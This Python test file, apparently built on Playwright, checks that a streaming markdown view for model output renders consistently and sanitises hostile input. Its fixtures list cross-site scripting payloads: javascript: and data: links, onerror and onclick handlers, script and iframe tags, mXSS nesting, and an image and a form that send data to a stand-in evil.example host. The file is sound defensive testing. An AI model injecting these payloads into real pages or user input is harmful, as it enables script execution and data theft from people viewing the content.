"""Markdown of a model on the page: harmless, and the same however it arrives."""

import pytest
from playwright.sync_api import Page

from tests.browser import browser, module_page, run

__all__ = ["browser", "module_page"]

HOSTILE = """\
[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](data:text/html,<script>alert(1)</script>)
[v](vbscript:x) <javascript:alert(1)> [rel](/history/clear) [proto](//evil.example/)
[b](https://ok.example/"onmouseover="alert(1))

![pixel](https://evil.example/?q=secret) ![inline](data:image/png;base64,AAAA)

<img src=x onerror=alert(1)> <svg><style><img src=x onerror=alert(1)></style></svg>
<style>body{display:none}</style><iframe srcdoc="x"></iframe><form action=https://evil.example>

<script>alert(1)</script>

<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img onerror=alert(1)&gt;">

```"><img src=x onerror=alert(1)>
</code></pre><script>alert(1)</script>
```

| <b onclick=alert(1)>a</b> |
|---|
| `<script>` |

[ref]: javascript:alert(1)
[ref]
"""
SAMPLE = """\
Heading one
===========

## Two with `code` and **bold**

A paragraph that
breaks its lines, *stressed **and strong***, ~~gone~~, <https://auto.example/>, www.bare.example,
a [link](https://a.example/x_(y)), a [late one][late] and ``code with ` in it``.

1. one **bold
   over lines**
2. two
   - nested `x`
     ```python
     a = 2 ** 3  # ** not closed
     ```
   - again

   a paragraph of two
10. ten

> quoted *text*
> > twice

- [ ] open
- [x] done

| a | b |
|:--|--:|
| 1 | **2** |

    indented code

***

~~~text
```
inside
```
~~~

Text with <b>markup</b> & entities &amp; &lt;.

[late]: https://late.example/ref

Ends with an open **emphasis and `code
"""


STREAMED = """
const [sample, step] = argument;
const grown = document.createElement("div");
const view = new module.MarkdownView(grown);
for (let end = step; end < sample.length; end += step) view.update(sample.slice(0, end), false);
const first = grown.firstElementChild;
view.update(sample, true);
const whole = document.createElement("div");
new module.MarkdownView(whole).update(sample, true);
return [grown.innerHTML, whole.innerHTML, first === grown.firstElementChild];
"""


@pytest.mark.parametrize("sample", [SAMPLE, HOSTILE, SAMPLE.replace("\n", "\r\n")])
@pytest.mark.parametrize("step", [1, 7, 100])
def test_markdown_that_grew_equals_the_same_rendered_at_once(
    module_page: Page, sample: str, step: int
) -> None:
    grown, whole, kept = run(module_page, "markdown-view.js", STREAMED, [sample, step])

    assert grown == whole
    assert "<p>" in whole
    assert kept, "a finished block was made anew, and the reader's selection with it"


def test_hostile_markdown_becomes_nothing_but_text_and_honest_links(module_page: Page) -> None:
    for end in [*range(0, len(HOSTILE), 5), len(HOSTILE)]:
        found = run(
            module_page,
            "markdown-view.js",
            """
            const target = document.createElement("div");
            new module.MarkdownView(target).update(argument[0], argument[1]);
            const elements = [...target.querySelectorAll("*")];
            return {
              names: [...new Set(elements.map((one) => one.localName))],
              attributes: [...new Set(elements.flatMap((one) => one.getAttributeNames()))],
              links: [...target.querySelectorAll("a")].map((one) => [one.href, one.rel]),
            };
            """,
            [HOSTILE[:end], end == len(HOSTILE)],
        )

        # svg, use and button are the page's own: the copy button of a block of code.
        assert not set(found["names"]) & {"img", "script", "style", "iframe", "form", "math"}
        assert not [name for name in found["attributes"] if name.startswith("on")]
        for href, rel in found["links"]:
            assert href.startswith("https://"), href
            assert rel == "noopener noreferrer nofollow"


def test_the_sanitiser_does_not_rely_on_the_renderer(module_page: Page) -> None:
    html = (
        "<p>ok<img src=x onerror=alert(1)><script>alert(1)</script><style>p{}</style></p>"
        '<a href="javascript:alert(1)" id=x name=y style="color:red" onclick=alert(1)>z</a>'
        '<a href="//evil.example">w</a><svg><a href="https://x.example">v</a></svg><form><input>'
    )

    made = run(
        module_page,
        "markdown.js",
        """
        const holder = document.createElement("div");
        holder.append(module.safeFragment(argument));
        return holder.innerHTML;
        """,
        html,
    )

    assert made == "<p>ok</p><a>z</a><a>w</a>"


def test_an_open_mark_is_closed_while_the_text_still_comes(module_page: Page) -> None:
    pairs = {
        "a **b": "a **b**",
        "a **": "a ",
        "see [the pa": "see the pa",
        "see [x](https://half": "see x",
        "run `ls": "run `ls`",
        "A line\n--": "A line\n",
        "```py\nx = 2 ** 3": "```py\nx = 2 ** 3",
        "done **well**.": "done **well**.",
    }

    made = run(module_page, "markdown.js", "return argument.map(module.completed)", list(pairs))

    assert dict(zip(pairs, made, strict=True)) == pairs
